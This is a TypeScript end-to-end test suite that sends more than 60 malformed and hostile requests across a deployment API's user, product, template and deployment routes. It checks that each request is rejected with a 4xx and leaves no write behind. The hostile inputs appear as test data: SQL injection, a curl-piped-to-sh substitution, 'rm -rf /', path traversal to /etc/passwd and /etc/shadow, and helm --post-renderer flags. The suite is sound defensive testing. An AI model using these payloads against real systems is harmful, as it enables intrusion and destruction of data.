/**
 * A catalogue of hostile and malformed requests over every route: wrong types, missing and
 * unknown fields, huge and deeply nested bodies, invalid UUIDs, names that are not DNS labels,
 * values that break the schema or are too big, backwards and cross-product upgrades, and
 * injection strings (shell, SQL, helm flags, path traversal) in names, values and chart refs,
 * control characters (NUL, escapes, DEL, C1) and unpaired surrogates in any string or key, the
 * reserved keys `constructor`/`prototype` (which Nest would drop silently), unknown keywords in a
 * published schema, and bad deployment limits and domain suffixes.
 *
 * Each case must get a 4xx with a clear message (never a 5xx), and write nothing: the suite's
 * own database keeps its row counts and the suite's task queue gets no new workflow.
 *
 * It adds to the cases of test/e2e/{users,catalog,deployments,http}.e2e-spec.ts without
 * repeating them; those check the same way that nothing is written.
 */
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import request from 'supertest';
import { Client, Connection } from '@temporalio/client';
import { bearer, TestApi } from '../support/api';
import { Catalog, createUser, E2eSuite, exampleTemplate, NIL_UUID, REPO_ROOT, seedCatalog, startSuite, TestDb, TestUser, uniqueDomain } from '../support/e2e';
import { scenario } from './support/results';

type Req = (h: ReturnType<typeof request>) => request.Test;
interface Case {
  route: string;
  name: string;
  status: number;
  req: Req;
}

const nested = (depth: number): Record<string, unknown> => (depth === 0 ? { leaf: 'x' } : { a: nested(depth - 1) });
const CHARTS = join(REPO_ROOT, 'charts');

describe('bad input over every route (reliability)', () => {
  let suite: E2eSuite;
  let api: TestApi;
  let db: TestDb;
  let temporal: Client;
  let connection: Connection;
  let admin: Record<string, string>;
  let user: TestUser;
  let catalog: Catalog;
  let other: Catalog;
  let deletedTemplate: string;
  /** A deployment at 1.0.0 and one already upgraded to 1.1.0. */
  let d1: string;
  let d2: string;
  const cases: Case[] = [];
  const outcomes: { route: string; name: string; status: number }[] = [];

  beforeAll(async () => {
    suite = await startSuite();
    ({ api, db } = suite);
    connection = await Connection.connect({ address: process.env.TEMPORAL_ADDRESS });
    temporal = new Client({ connection, namespace: process.env.TEMPORAL_NAMESPACE ?? 'default' });
    admin = bearer(api.adminToken);
    user = await createUser(api, 'bad');
    catalog = await seedCatalog(api, 'bad', { '1.0.0': '1.0.0', '1.1.0': '1.1.0' });
    other = await seedCatalog(api, 'other', { '2.0.0': '1.1.0' });
    const t = await api.http.post(`/products/${catalog.productId}/templates`).set(admin).send(exampleTemplate('1.1.0', '1.2.0')).expect(201);
    deletedTemplate = t.body.id;
    await api.http.delete(`/products/${catalog.productId}/templates/${deletedTemplate}`).set(admin).expect(204);
    const create = async () =>
      (
        await api.http
          .post(`/users/${user.id}/deployments`)
          .set(admin)
          .send({ templateId: catalog.templates['1.0.0'], domainName: uniqueDomain('bad'), values: { title: 'ok' } })
          .expect(202)
      ).body.id as string;
    d1 = await create();
    d2 = await create();
    await api.http.post(`/users/${user.id}/deployments/${d2}/upgrade`).set(admin).send({ templateId: catalog.templates['1.1.0'] }).expect(202);
  });

  afterAll(async () => {
    await connection?.close();
    await suite?.close();
  });

  /** Every workflow ever started on the suite's task queue (the two deployments above started theirs). */
  async function workflowCount(): Promise<number> {
    let n = 0;
    for await (const _ of temporal.workflow.list({ query: `TaskQueue = "${api.taskQueue}"` })) n += 1;
    return n;
  }

  const add = (route: string, name: string, status: number, req: Req) => cases.push({ route, name, status, req });
  const dep = (id = d1, suffix = '') => `/users/${user.id}/deployments/${id}${suffix}`;
  const tpl = () => ({ ...exampleTemplate('1.0.0', `0.0.${randomBytes(2).readUInt16BE()}`) });

  // Every builder runs lazily (ids exist only after beforeAll).
  const SQL = "x'); DROP TABLE deployments; --";
  const SHELL = '$(curl -s http://127.0.0.1:1/x | sh)';
  const TRAVERSAL = '../../../../etc/passwd';

  // --- users ---
  add('POST /users', 'SQL injection in the e-mail', 400, (h) => h.post('/users').set(admin).send({ email: `a'; DROP TABLE users; --@example.com` }));
  add('POST /users', 'shell command substitution in the e-mail', 400, (h) =>
    h
      .post('/users')
      .set(admin)
      .send({ email: `${SHELL}@example.com` }),
  );
  add('POST /users', 'CRLF header injection in the e-mail', 400, (h) => h.post('/users').set(admin).send({ email: 'a@example.com\r\nX-Admin: 1' }));
  add('POST /users', 'isAdmin as a number', 400, (h) => h.post('/users').set(admin).send({ email: 'n@example.com', isAdmin: 1 }));
  add('POST /users', 'isAdmin null', 400, (h) => h.post('/users').set(admin).send({ email: 'null-admin@example.com', isAdmin: null }));
  add('POST /users', 'e-mail null', 400, (h) => h.post('/users').set(admin).send({ email: null }));
  add('POST /users', 'a body over the size limit', 413, (h) =>
    h
      .post('/users')
      .set(admin)
      .send({ email: 'big@example.com', pad: 'x'.repeat(300 * 1024) }),
  );
  add('GET /users', 'SQL in the limit', 400, (h) => h.get(`/users?limit=${encodeURIComponent('1; DROP TABLE users')}`).set(admin));
  add('GET /users', 'limit given twice', 400, (h) => h.get('/users?limit=1&limit=2').set(admin));
  add('GET /users/:userId', 'SQL injection as the id', 400, (h) => h.get(`/users/${encodeURIComponent("1' OR '1'='1")}`).set(admin));
  add('DELETE /users/:userId', 'path traversal as the id', 400, (h) => h.delete(`/users/${encodeURIComponent(TRAVERSAL)}`).set(admin));
  add('DELETE /users/:userId', 'a UUID with a non-hex digit', 400, (h) => h.delete('/users/00000000-0000-4000-8000-00000000000g').set(admin));
  add('POST /users', 'NUL in the e-mail', 400, (h) => h.post('/users').set(admin).send({ email: 'nul\u0000@example.com' }));
  add('POST /users', 'a negative deployment limit', 400, (h) => h.post('/users').set(admin).send({ email: 'neg@example.com', maxDeployments: -1 }));
  add('PUT /users/:userId', 'a deployment limit given as a string', 400, (h) => h.put(`/users/${user.id}`).set(admin).send({ maxDeployments: '5' }));
  add('PUT /users/:userId', 'a fractional deployment limit', 400, (h) => h.put(`/users/${user.id}`).set(admin).send({ maxDeployments: 2.5 }));
  add('PUT /users/:userId', 'an isAdmin field', 400, (h) => h.put(`/users/${user.id}`).set(admin).send({ isAdmin: true }));
  add('PUT /users/:userId', 'an unknown user', 404, (h) => h.put(`/users/${NIL_UUID}`).set(admin).send({ maxDeployments: 1 }));
  add('POST /users/:userId/token', 'SQL injection as the id', 400, (h) => h.post(`/users/${encodeURIComponent(SQL)}/token`).set(admin));
  add('POST /users/:userId/token', 'an unknown user', 404, (h) => h.post(`/users/${NIL_UUID}/token`).set(admin));

  // --- products ---
  add('POST /products', 'SQL injection as the name', 400, (h) => h.post('/products').set(admin).send({ name: SQL }));
  add('POST /products', 'shell command substitution as the name', 400, (h) => h.post('/products').set(admin).send({ name: SHELL }));
  add('POST /products', 'a helm flag as the name', 400, (h) => h.post('/products').set(admin).send({ name: '--set' }));
  add('POST /products', 'path traversal as the name', 400, (h) => h.post('/products').set(admin).send({ name: '../../etc' }));
  add('POST /products', 'an underscore (not a DNS label)', 400, (h) => h.post('/products').set(admin).send({ name: 'web_app' }));
  add('POST /products', 'a Cyrillic look-alike letter', 400, (h) => h.post('/products').set(admin).send({ name: 'wеbapp' }));
  add('POST /products', 'CRLF in the name', 400, (h) => h.post('/products').set(admin).send({ name: 'web\r\nSet-Cookie: a=b' }));
  add('POST /products', 'a description 20 levels deep', 400, (h) =>
    h
      .post('/products')
      .set(admin)
      .send({ name: 'deep', description: nested(20) }),
  );
  add('POST /products', 'NUL in the description', 400, (h) => h.post('/products').set(admin).send({ name: 'nul-desc', description: 'a\u0000b' }));
  add('POST /products', 'an escape sequence in the description', 400, (h) => h.post('/products').set(admin).send({ name: 'esc-desc', description: 'red \u001b[31m' }));
  add('POST /products', 'a C1 control character in the description', 400, (h) => h.post('/products').set(admin).send({ name: 'c1-desc', description: 'next\u0085line' }));
  add('POST /products', 'a lone surrogate in the description', 400, (h) => h.post('/products').set(admin).send({ name: 'sur-desc', description: 'half \ud83d' }));
  add('POST /products', 'an allowed domain suffix that is no host name', 400, (h) =>
    h
      .post('/products')
      .set(admin)
      .send({ name: 'suffixes', allowedDomainSuffixes: ['../etc'] }),
  );
  add('PUT /products/:productId', 'allowed domain suffixes as a string', 400, (h) => h.put(`/products/${catalog.productId}`).set(admin).send({ allowedDomainSuffixes: 'example.com' }));
  add('PUT /products/:productId', 'NUL in the description', 400, (h) => h.put(`/products/${catalog.productId}`).set(admin).send({ description: '\u0000' }));
  add('GET /products', 'a negative limit', 400, (h) => h.get('/products?limit=-5').set(admin));
  add('GET /products/:productId', 'path traversal as the id', 400, (h) => h.get(`/products/${encodeURIComponent(TRAVERSAL)}`).set(admin));
  add('PUT /products/:productId', 'a null name', 400, (h) => h.put(`/products/${catalog.productId}`).set(admin).send({ name: null }));
  add('PUT /products/:productId', 'a null description', 400, (h) => h.put(`/products/${catalog.productId}`).set(admin).send({ description: null }));
  add('POST /products', 'a null description', 400, (h) => h.post('/products').set(admin).send({ name: 'nulldesc', description: null }));
  add('PUT /products/:productId', 'an isAdmin field', 400, (h) => h.put(`/products/${catalog.productId}`).set(admin).send({ isAdmin: true }));
  add('PUT /products/:productId', 'SQL injection as the id', 400, (h) =>
    h
      .put(`/products/${encodeURIComponent(SQL)}`)
      .set(admin)
      .send({ description: 'x' }),
  );
  add('PUT /products/:productId', 'an unknown product', 404, (h) => h.put(`/products/${NIL_UUID}`).set(admin).send({ description: 'x' }));
  add('DELETE /products/:productId', 'an id with a trailing newline', 400, (h) => h.delete(`/products/${catalog.productId}%0A`).set(admin));

  // --- templates ---
  add('POST /products/:productId/templates', 'a file:// chart reference', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: 'file:///etc/passwd' }),
  );
  add('POST /products/:productId/templates', '--post-renderer as the chart', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: '--post-renderer=/tmp/evil.sh' }),
  );
  add('POST /products/:productId/templates', '--kubeconfig as the chart', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: '--kubeconfig=/etc/shadow' }),
  );
  add('POST /products/:productId/templates', 'a lone dash as the chart', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: '-' }),
  );
  add('POST /products/:productId/templates', 'a digest followed by a helm flag', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: `oci://127.0.0.1:5001/x/webapp@sha256:${'a'.repeat(64)} --post-renderer /bin/sh` }),
  );
  add('POST /products/:productId/templates', 'traversal from inside a chart directory', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: `${CHARTS}/examples/webapp-1.0.0/../../../../etc` }),
  );
  add('POST /products/:productId/templates', 'shell in a local chart path', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: `${CHARTS}/examples/$(id)` }),
  );
  add('POST /products/:productId/templates', 'a chart sub-directory that is no chart', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: `${CHARTS}/examples/webapp-1.0.0/templates` }),
  );
  add('POST /products/:productId/templates', 'a file inside a chart as the chart', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: `${CHARTS}/examples/webapp-1.0.0/Chart.yaml` }),
  );
  add('POST /products/:productId/templates', 'SQL injection in the version', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), version: "1.0.0'; DROP TABLE template_versions; --" }),
  );
  add('POST /products/:productId/templates', 'shell in semver build metadata', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), version: '1.0.0+$(id)' }),
  );
  add('POST /products/:productId/templates', 'a helm flag in the chart version', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartVersion: '1.0.0 --set image.repository=evil' }),
  );
  add('POST /products/:productId/templates', 'a schema $ref to a local file', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), valuesSchema: { $ref: 'file:///etc/passwd' } }),
  );
  add('POST /products/:productId/templates', 'a schema $ref to a remote URL', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), valuesSchema: { $ref: 'http://127.0.0.1:1/schema.json' } }),
  );
  add('POST /products/:productId/templates', 'a shell string as a quota', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), capabilities: { quota: { cpu: '1; rm -rf /' } } }),
  );
  add('POST /products/:productId/templates', 'null default values', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), defaultValues: null }),
  );
  add('POST /products/:productId/templates', 'null capabilities', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), capabilities: null }),
  );
  add('POST /products/:productId/templates', 'a null chart digest for an oci chart', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), chartRef: 'oci://127.0.0.1:5001/x/webapp', chartDigest: null }),
  );
  add('POST /products/:productId/templates', 'NUL in the default values', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), defaultValues: { user: { title: 'a\u0000' } } }),
  );
  add('POST /products/:productId/templates', 'NUL in a schema key', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), valuesSchema: { type: 'object', properties: { 'ti\u0000tle': { type: 'string' } } } }),
  );
  add('POST /products/:productId/templates', 'an unknown schema keyword (a typo)', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .send({ ...tpl(), valuesSchema: { type: 'object', properties: { title: { type: 'string', maxLenght: 5 } } } }),
  );
  add('POST /products/:productId/templates', 'a constructor key in the default values', 400, (h) =>
    h
      .post(`/products/${catalog.productId}/templates`)
      .set(admin)
      .set('content-type', 'application/json')
      .send(JSON.stringify({ ...tpl(), defaultValues: JSON.parse('{"constructor": {"x": 1}}') })),
  );
  add('POST /products/:productId/templates', 'an unknown product', 404, (h) => h.post(`/products/${NIL_UUID}/templates`).set(admin).send(tpl()));
  add('GET /products/:productId/templates', 'SQL injection as the product id', 400, (h) => h.get(`/products/${encodeURIComponent(SQL)}/templates`).set(admin));
  add('GET /products/:productId/templates/:templateId', 'path traversal as the template id', 400, (h) => h.get(`/products/${catalog.productId}/templates/${encodeURIComponent(TRAVERSAL)}`).set(admin));
  add('DELETE /products/:productId/templates/:templateId', 'a template of another product', 404, (h) => h.delete(`/products/${catalog.productId}/templates/${other.templates['2.0.0']}`).set(admin));

  // --- deployments: create ---
  const createBody = (over: Record<string, unknown>) => ({ templateId: catalog.templates['1.0.0'], domainName: uniqueDomain('bad'), values: { title: 'x' }, ...over });
  const createCase = (name: string, status: number, over: () => Record<string, unknown>) =>
    add('POST /users/:userId/deployments', name, status, (h) => h.post(`/users/${user.id}/deployments`).set(admin).send(createBody(over())));
  createCase('no templateId', 400, () => ({ templateId: undefined }));
  createCase('a numeric templateId', 400, () => ({ templateId: 42 }));
  createCase('SQL injection as the templateId', 400, () => ({ templateId: SQL }));
  createCase('an unknown template', 404, () => ({ templateId: NIL_UUID }));
  createCase('a deleted template', 404, () => ({ templateId: deletedTemplate }));
  createCase('shell in the domain name', 400, () => ({ domainName: `${SHELL}.example.com` }));
  createCase('a helm flag as the domain name', 400, () => ({ domainName: '--set=caelus.domainName=evil' }));
  createCase('path traversal in the domain name', 400, () => ({ domainName: 'example.com/../../etc' }));
  createCase('an upper-case domain name', 400, () => ({ domainName: 'App.Example.com' }));
  createCase('a single-label domain name', 400, () => ({ domainName: 'localhost' }));
  createCase('a domain name over 253 characters', 400, () => ({ domainName: `${'a'.repeat(60)}.${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.example.com` }));
  createCase('a label over 63 characters', 400, () => ({ domainName: `${'a'.repeat(64)}.example.com` }));
  createCase('values null', 400, () => ({ values: null }));
  createCase('values that are a string', 400, () => ({ values: 'title: x' }));
  createCase('a value the schema does not know', 400, () => ({ values: { title: 'x', image: { repository: 'evil' } } }));
  createCase('an attempt to set the system values', 400, () => ({ values: { caelus: { deploymentUid: 'kube-system' } } }));
  createCase('a helm --set path as a key', 400, () => ({ values: { 'image.repository': 'evil' } }));
  createCase('a __proto__ key in the values', 400, () => ({ values: JSON.parse('{"__proto__": {"isAdmin": true}}') }));
  createCase('a title of the wrong type', 400, () => ({ values: { title: 12 } }));
  createCase('a title over its maxLength', 400, () => ({ values: { title: 'x'.repeat(101) } }));
  createCase('an enum value carrying a shell command', 400, () => ({ values: { theme: 'dark; rm -rf /' } }));
  createCase('values over 64 KiB', 400, () => ({ values: Object.fromEntries(Array.from({ length: 700 }, (_, i) => [`k${i}`, 'x'.repeat(100)])) }));
  createCase('values 20 levels deep', 400, () => ({ values: nested(20) }));
  createCase('a userId in the body', 400, () => ({ userId: NIL_UUID }));
  createCase('NUL in a value', 400, () => ({ values: { title: 'a\u0000b' } }));
  createCase('NUL in a value key', 400, () => ({ values: { 'ti\u0000tle': 'x' } }));
  createCase('an escape sequence in a value', 400, () => ({ values: { title: 'x\u001b]0;pwned\u0007' } }));
  createCase('a lone surrogate in a value', 400, () => ({ values: { title: 'half \udc00' } }));
  createCase('NUL in the domain name', 400, () => ({ domainName: `a\u0000.example.com` }));
  createCase('a constructor key in the values (which would be silently dropped)', 400, () => ({ values: JSON.parse('{"title": "x", "constructor": {"prototype": 1}}') }));
  createCase('a prototype key in the values', 400, () => ({ values: JSON.parse('{"title": "x", "prototype": "y"}') }));
  add('POST /users/:userId/deployments', 'an unknown user', 404, (h) => h.post(`/users/${NIL_UUID}/deployments`).set(admin).send(createBody({})));
  add('POST /users/:userId/deployments', 'SQL injection as the user id', 400, (h) =>
    h
      .post(`/users/${encodeURIComponent(SQL)}/deployments`)
      .set(admin)
      .send(createBody({})),
  );

  // --- deployments: list, get, events ---
  add('GET /users/:userId/deployments', 'SQL in the status filter', 400, (h) => h.get(`/users/${user.id}/deployments?status=${encodeURIComponent("ready' OR '1'='1")}`).set(admin));
  add('GET /users/:userId/deployments', 'NUL in the cursor', 400, (h) => h.get(`/users/${user.id}/deployments?cursor=%00`).set(admin));
  add('GET /users/:userId/deployments', 'status given twice', 400, (h) => h.get(`/users/${user.id}/deployments?status=ready&status=error`).set(admin));
  add('GET /users/:userId/deployments/:deploymentId', 'path traversal as the id', 400, (h) => h.get(dep(encodeURIComponent(TRAVERSAL))).set(admin));
  add('GET /users/:userId/deployments/:deploymentId/events', 'SQL in the cursor', 400, (h) => h.get(dep(d1, `/events?cursor=${encodeURIComponent('1 OR 1=1')}`)).set(admin));
  add('GET /users/:userId/deployments/:deploymentId/events', 'a limit of a billion', 400, (h) => h.get(dep(d1, '/events?limit=1000000000')).set(admin));

  // --- deployments: values update ---
  add('PUT /users/:userId/deployments/:deploymentId', 'a chart setting at the top of the values', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .send({ values: { replicas: 5 } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'SQL in If-Match', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .set('If-Match', '"1"; DROP TABLE deployments')
      .send({ values: { title: 'x' } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'a negative If-Match', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .set('If-Match', '"-1"')
      .send({ values: { title: 'x' } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'a body over the size limit', 413, (h) =>
    h
      .put(dep())
      .set(admin)
      .send({ values: { title: 'x'.repeat(300 * 1024) } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'NUL in a value', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .send({ values: { title: '\u0000' } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'a DEL character in a value', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .send({ values: { title: 'x\u007f' } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'a numeric secret', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .send({ values: { adminPassword: 12345678 } }),
  );
  add('PUT /users/:userId/deployments/:deploymentId', 'a new field of 1.1.0 on a 1.0.0 deployment', 400, (h) =>
    h
      .put(dep())
      .set(admin)
      .send({ values: { motd: 'not yet' } }),
  );

  // --- deployments: upgrade ---
  const upgrade = (id: string, body: unknown) => (h: ReturnType<typeof request>) =>
    h
      .post(dep(id, '/upgrade'))
      .set(admin)
      .send(body as object);
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'backwards, 1.1.0 to 1.0.0', 409, (h) => upgrade(d2, { templateId: catalog.templates['1.0.0'] })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'to the version it is at', 409, (h) => upgrade(d2, { templateId: catalog.templates['1.1.0'] })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'to a newer version of another product', 409, (h) => upgrade(d1, { templateId: other.templates['2.0.0'] })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'to a deleted template', 404, (h) => upgrade(d1, { templateId: deletedTemplate })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'SQL injection as the templateId', 400, (h) => upgrade(d1, { templateId: SQL })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', '--post-renderer as the templateId', 400, (h) => upgrade(d1, { templateId: '--post-renderer=/bin/sh' })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'a templateId array', 400, (h) => upgrade(d1, { templateId: [catalog.templates['1.1.0']] })(h));
  add('POST /users/:userId/deployments/:deploymentId/upgrade', 'a chartRef instead of a template', 400, (h) =>
    upgrade(d1, { templateId: catalog.templates['1.1.0'], chartRef: `${CHARTS}/examples/webapp-1.1.0` })(h),
  );

  // --- deployments: delete ---
  add('DELETE /users/:userId/deployments/:deploymentId', 'a deployment of another user under this user', 404, (h) => h.delete(`/users/${NIL_UUID}/deployments/${d1}`).set(admin));
  add('DELETE /users/:userId/deployments/:deploymentId', 'shell as the id', 400, (h) => h.delete(dep(encodeURIComponent(SHELL))).set(admin));

  it('answers every case with a 4xx and a clear message, writes nothing and starts no workflow', async () => {
    await scenario('bad-input-catalogue', cases.length, 'cases', async (r) => {
      const workflowsBefore = await workflowCount();
      const failures: string[] = [];
      for (const c of cases) {
        const before = await db.snapshot();
        const res = await c.req(api.http);
        outcomes.push({ route: c.route, name: c.name, status: res.status });
        const message = typeof res.body?.message === 'string' ? res.body.message : '';
        if (res.status !== c.status) failures.push(`${c.route} ${c.name}: ${res.status} (want ${c.status}) ${res.text.slice(0, 300)}`);
        if (res.status >= 500) failures.push(`${c.route} ${c.name}: server error ${res.status}`);
        if (message.length < 8 || /internal server error/i.test(message)) failures.push(`${c.route} ${c.name}: no clear message (${JSON.stringify(res.body).slice(0, 200)})`);
        const after = await db.snapshot();
        if (JSON.stringify(after) !== JSON.stringify(before)) failures.push(`${c.route} ${c.name}: the database changed ${JSON.stringify(before)} -> ${JSON.stringify(after)}`);
      }
      // Visibility is eventually consistent: count again after a moment.
      await new Promise((res) => setTimeout(res, 2000));
      const workflowsAfter = await workflowCount();
      if (workflowsAfter !== workflowsBefore) failures.push(`workflows on the task queue went from ${workflowsBefore} to ${workflowsAfter}`);
      expect(failures).toEqual([]);

      const routes = new Set(cases.map((c) => c.route));
      const byStatus = outcomes.reduce<Record<number, number>>((acc, o) => ({ ...acc, [o.status]: (acc[o.status] ?? 0) + 1 }), {});
      r.note(
        `${cases.length} cases over ${routes.size} routes: ${Object.entries(byStatus)
          .map(([s, n]) => `${n}× ${s}`)
          .join(', ')}; no 5xx, no row written, no workflow started`,
      );
    });
  });

  it('covers every write route and every route with a path parameter', () => {
    const routes = new Set(cases.map((c) => c.route));
    for (const route of [
      'POST /users',
      'GET /users',
      'GET /users/:userId',
      'DELETE /users/:userId',
      'PUT /users/:userId',
      'POST /users/:userId/token',
      'POST /products',
      'GET /products',
      'GET /products/:productId',
      'PUT /products/:productId',
      'DELETE /products/:productId',
      'POST /products/:productId/templates',
      'GET /products/:productId/templates',
      'GET /products/:productId/templates/:templateId',
      'DELETE /products/:productId/templates/:templateId',
      'POST /users/:userId/deployments',
      'GET /users/:userId/deployments',
      'GET /users/:userId/deployments/:deploymentId',
      'PUT /users/:userId/deployments/:deploymentId',
      'POST /users/:userId/deployments/:deploymentId/upgrade',
      'DELETE /users/:userId/deployments/:deploymentId',
      'GET /users/:userId/deployments/:deploymentId/events',
    ])
      expect(routes).toContain(route);
    expect(cases.length).toBeGreaterThanOrEqual(60);
  });
});
